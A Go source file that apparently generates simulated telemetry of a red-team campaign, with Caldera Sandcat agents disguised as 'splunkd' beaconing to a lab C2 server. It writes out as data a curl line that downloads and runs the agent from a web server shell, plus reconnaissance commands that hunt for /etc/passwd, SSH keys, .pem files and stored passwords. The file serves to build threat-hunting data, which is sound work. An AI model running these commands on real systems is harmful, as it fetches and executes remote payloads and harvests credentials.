package main

import (
	"math/rand/v2"
	"time"
)

// campaign is the red team's exercise: Sandcat agents named splunkd that talk to a Caldera
// server. It starts on the afternoon of July 27th and outlives the month.
//
//   - container: the foothold, in the container 172.17.0.2; it beacons over one connection.
//   - host: on the host itself; it looks for peers by multicast DNS.
//   - unseen: started while the collector was down, so it is known as a parent only.
//   - watchdogs: one every half hour from cron, in case the others are gone.
//
// Agents run commands by fork and exec. A fork carries the agent's own name and command line
// until its exec, so each command is a splunkd for some milliseconds.
type campaign struct {
	w                       *world
	r                       *rand.Rand
	h                       *host
	container, host, unseen *process
	watchdogs               []*watchdog
	drawn                   map[int]bool // watchdogs that have a part
}

const (
	agentExe     = "/tmp/splunkd"
	containerCmd = "./splunkd -server http://192.168.56.150:8888 -group red -v"
	hostCmd      = "/tmp/splunkd -server http://192.168.56.150:8888 -group red -listenP2P"
	unseenCmd    = "/dev/shm/splunkd -server http://192.168.56.150:8888 -group blue"
	watchdogCmd  = "./splunkd -server http://192.168.56.150:8888 -group watchdog"
)

// How much the agents did in July, all from the operation's log.
const (
	plainCommands = 960 // a shell and nothing else
	pipelines     = 83  // a shell that starts one more process
	unseenOrders  = 40  // commands of the agent that is known as a parent only
)

// The agents' first breath, and when they stop, after every range of the hunt.
var (
	firstMDNS     = time.Date(2022, 7, 27, 14, 38, 30, 442905703, time.UTC)
	campaignStart = utc(time.July, 27, 14, 37)
	ordersStart   = utc(time.July, 27, 14, 45)
	ordersStop    = utc(time.July, 31, 23, 50)
	campaignStop  = utc(time.August, 1, 6, 0)
)

// runCampaign plays the whole exercise.
func runCampaign(w *world, f *fleet) *campaign {
	c := &campaign{w: w, r: w.random("campaign"), h: f.target}
	c.breakIn()
	c.beaconForDays()
	c.discoverPeers()
	c.runWatchdogs()
	c.giveOrders()
	c.download()
	w.exit(c.container, campaignStop.Add(time.Minute))
	w.exit(c.host, campaignStop.Add(2*time.Minute))
	return c
}

// breakIn starts the agents: a shell from the shop's web server, a download, the agents.
func (c *campaign) breakIn() {
	at := campaignStart.Add(upTo(c.r, 30*time.Second))
	web := c.h.since["java"]
	sh := c.w.run(web, at, shell("curl -sO http://192.168.56.150:8888/file/download;chmod +x splunkd;./splunkd&"))
	curl := c.w.run(sh, at.Add(time.Second), image{"curl", "/usr/bin/curl", "curl -sO http://192.168.56.150:8888/file/download"})
	c.w.connect(c.r, curl, at.Add(2*time.Second), tcp(containerIP, 49722, c2IP, c2Port))
	c.w.touchFile(curl, at.Add(2*time.Second), "created", agentExe)
	c.w.exit(curl, at.Add(3*time.Second))
	c.container = c.w.run(sh, at.Add(5*time.Second), image{"splunkd", agentExe, containerCmd})
	c.host = c.w.run(sh, at.Add(20*time.Second), image{"splunkd", agentExe, hostCmd})

	c.unseen = c.h.boot(c.w, c.h.since["systemd"], image{"splunkd", "/dev/shm/splunkd", unseenCmd})
}

// giveOrders runs the commands of July.
func (c *campaign) giveOrders() {
	for range plainCommands {
		c.order(pick(c.r, []*process{c.container, c.host}), moment(c.r, ordersStart, ordersStop))
	}
	for range pipelines {
		at := moment(c.r, ordersStart, ordersStop)
		c.pipe(c.order(pick(c.r, []*process{c.container, c.host}), at), at.Add(200*time.Millisecond))
	}
	for range unseenOrders { // of one working day: no silence that would split the agent
		c.order(c.unseen, moment(c.r, utc(time.July, 28, 9, 0), utc(time.July, 28, 17, 0)))
	}
}

// order is one command: the agent's fork and the shell that it becomes.
func (c *campaign) order(agent *process, at time.Time) *process {
	p := c.w.fork(agent, at)
	c.w.exec(p, at.Add(between(c.r, 2*time.Millisecond, 120*time.Millisecond)), shell(pick(c.r, orders)))
	switch c.r.IntN(10) {
	case 0:
		p.born.knowsParent = bare
	case 1:
		c.w.touchFile(p, at.Add(300*time.Millisecond), "accessed", "/etc/passwd")
	}
	if !chance(c.r, 7) {
		c.w.exit(p, at.Add(between(c.r, 900*time.Millisecond, 2*time.Second)))
	}
	return p
}

// pipe is a process that the shell of a command starts. Its parent was a splunkd by name for
// a moment, and is the same process still: the shell's child is an activity of splunkd.
func (c *campaign) pipe(sh *process, at time.Time) *process {
	return c.w.run(sh, at, image{"grep", "/usr/bin/grep", `grep -i "pass\|key"`})
}

// orders are the commands of the operation.
var orders = []string{
	"whoami", "id", "uname -a", "cat /etc/passwd", "ls -la /home/*", "ps aux | grep -v '\\['", "env",
	`find / -name '*.pem' -o -name "id_rsa" 2>/dev/null`, `printf '%s\n' "$HOME" | base64`,
	`awk -F: '{print $1 "\t" $3}' /etc/passwd`, `echo 'C:\temp\new' > /tmp/ß.txt`, "grep -r 'password=' /var/www",
	"df -h | awk '$5+0 > 80 {print \"100%\"}'", "crontab -l", "getent hosts 192.168.56.94",
}
